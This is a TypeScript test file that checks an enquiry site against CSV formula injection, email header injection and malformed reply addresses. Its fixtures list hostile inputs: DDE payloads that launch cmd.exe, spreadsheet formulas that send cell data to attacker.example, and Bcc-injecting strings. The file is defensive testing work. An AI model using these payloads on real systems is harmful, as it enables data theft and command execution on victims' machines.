import { afterEach, expect, test, vi } from 'vitest';
import { firestore } from '../../../functions/src/platform/admin.ts';
import { tellStaff } from '../../../functions/src/enquiries/mails/tell-staff.ts';
import { enquiriesCsv } from '../../../web/src/admin/enquiries/enquiry-csv.ts';
import { fullBodies } from '../../support/full-bodies.ts';
import { sampleStoredEnquiry } from '../../support/sample-stored-enquiry.ts';
import { mailText } from '../../support/mail-text.ts';
import { siteTest } from '../../support/site-test.ts';

const { visit } = siteTest();

afterEach(() => vi.unstubAllEnvs());

/** Texts that a spreadsheet reads as a formula, or as more cells than one. */
const csvFormulas: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=HYPERLINK("https://attacker.example/?x="&A1,"Click")',
  '=IMPORTXML(CONCAT("https://attacker.example/",A1),"//a")',
  '=IMPORTDATA("https://attacker.example/")',
  '=WEBSERVICE("https://attacker.example/")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!x",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '   +1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u200e=1+1',
  '\u0000=1+1',
  '\u001f=1+1',
  '\v=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  ' ＝1+1',
  '−1+1',
  '﹦1+1',
  '﹢1',
  '﹣1',
  '﹫SUM(1)',
  '|calc',
  '%0A=1+1',
  '"=1+1',
  '","=1+1',
  '""=1+1',
  "',=1+1",
  ';=1+1',
  ',=1+1',
  'x\n=1+1',
  'x\r\n=1+1,=1+1',
  'x";=1+1;"',
];

/** The cells of a CSV file as RFC 4180 reads them. */
const cellsOf = (csv: string): string[][] =>
  [...csv.matchAll(/((?:"(?:[^"]|"")*",?)+)\r\n/g)].map(([, line = '']) =>
    [...line.matchAll(/"((?:[^"]|"")*)",?/g)].map(([, cell = '']) => cell.replaceAll('""', '"')),
  );

/** What a spreadsheet skips before it looks whether a cell is a formula. */
const skipped = /^[\s\p{C}]+/u;
const formula = /^[=+\-@|%−＝＋－＠﹦﹢﹣﹫]/;

// dashboard-21
test('no cell of exported enquiries runs as a formula', () => {
  const fields = ['name', 'email', 'phone', 'course', 'message', 'page', 'qualification'] as const;
  const enquiries = csvFormulas.map((text) =>
    sampleStoredEnquiry(Object.fromEntries(fields.map((field) => [field, text]))),
  );
  const csv = enquiriesCsv(enquiries);
  const [titles = [], ...rows] = cellsOf(csv.slice(1));
  expect(rows).toHaveLength(csvFormulas.length);
  for (const [index, row] of rows.entries()) {
    expect(row).toHaveLength(titles.length);
    const text = csvFormulas[index] ?? '';
    expect(row.filter((cell) => cell === text || cell === `'${text}`)).toHaveLength(fields.length);
    for (const cell of row) expect(cell.replace(skipped, '')).not.toMatch(formula);
  }
});

/** Texts that end a header of a message, or a line of it, and begin one of their own. */
const breaks = ['\r\n', '\n', '\r', '\u2028', '\u2029', '\u0085', '\v', '\f', '\u0000'];

test('an enquiry cannot inject headers into an email to the staff', async () => {
  vi.stubEnv('ENQUIRY_EMAIL', 'staff@example.com');
  for (const [index, end] of breaks.entries()) {
    const text = `x${end}Bcc: evil@example.com${end}Phone: 1`;
    const enquiry = firestore().doc(`enquiries/attacked-mail-${index}`);
    const { _id, ...fields } = sampleStoredEnquiry({ name: text, course: text, page: text });
    await enquiry.set(fields);
    await tellStaff(await enquiry.get());
    const mail = (await firestore().doc(`mail/${enquiry.id}`).get()).data();
    for (const name of ['cc', 'bcc', 'from', 'headers']) expect(mail).not.toHaveProperty(name);
    expect(mail?.['to']).toHaveLength(1);
    expect(mail?.['message'].subject).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}]/u);
    const lines = mailText(mail).split(/[\p{Cc}\p{Zl}\p{Zp}]/u);
    expect(lines.filter((line) => /^(?:Bcc|Phone: 1$)/.test(line))).toEqual([]);
  }
});

test.each([
  'x@example.com\r\nBcc: evil@example.com',
  'x@example.com, evil@example.com',
  'x@example.com;evil@example.com',
  '"x@evil.example" <x@example.com>',
  'x@example.com?bcc=evil@example.com',
  'x@example.com&body=x',
  'x%0d%0aBcc:evil@example.com@example.com',
  'javascript:attacked()@example.com',
  '<script>@example.com',
  'x@[127.0.0.1]',
])('%s is not accepted as a reply address', async (email) => {
  const body = { ...fullBodies.createEnquiry(), email };
  const { status, body: answer } = await visit('POST', '/api/enquiries', { body });
  expect(status).toBe(400);
  expect(Object.keys(answer['fields'] as object)).toEqual(['email']);
});
